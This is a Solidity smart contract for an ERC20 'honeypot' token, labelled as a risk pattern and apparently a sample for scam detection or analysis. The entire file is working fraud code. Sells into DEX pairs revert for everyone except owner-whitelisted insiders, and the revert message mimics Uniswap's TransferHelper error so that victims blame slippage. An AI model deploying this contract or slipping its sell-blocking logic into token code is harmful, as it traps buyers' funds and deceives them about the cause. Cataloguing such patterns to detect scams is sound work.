// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// @title HoneypotToken
/// @notice Risk pattern "honeypot": anyone can buy, only whitelisted wallets can sell. The revert
/// reason imitates Uniswap's TransferHelper error so victims blame slippage, not the token.
contract HoneypotToken is ERC20, Ownable {
    /// @notice DEX pairs; a transfer into one is a sell (or a liquidity add).
    mapping(address account => bool) public isPair;
    /// @notice Wallets allowed to send tokens into a pair (the owner by default).
    mapping(address account => bool) public isWhitelisted;

    /// @notice Mints the whole supply to `owner_`, who is whitelisted so it can seed the pool.
    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ERC20(name_, symbol_)
        Ownable(owner_)
    {
        isWhitelisted[owner_] = true;
        _mint(owner_, supply);
    }

    /// @notice Registers a DEX pair (usually before the pool exists, at its CREATE2 address).
    function setPair(address pair, bool value) external onlyOwner {
        isPair[pair] = value;
    }

    /// @notice Lets a wallet (an insider) sell, or takes that back.
    function setWhitelist(address account, bool value) external onlyOwner {
        isWhitelisted[account] = value;
    }

    /// @dev The trap: transfers into a registered pair revert unless the sender is whitelisted.
    function _update(address from, address to, uint256 value) internal override {
        require(!isPair[to] || isWhitelisted[from], "TRANSFER_FROM_FAILED: trading locked");
        super._update(from, to, value);
    }
}
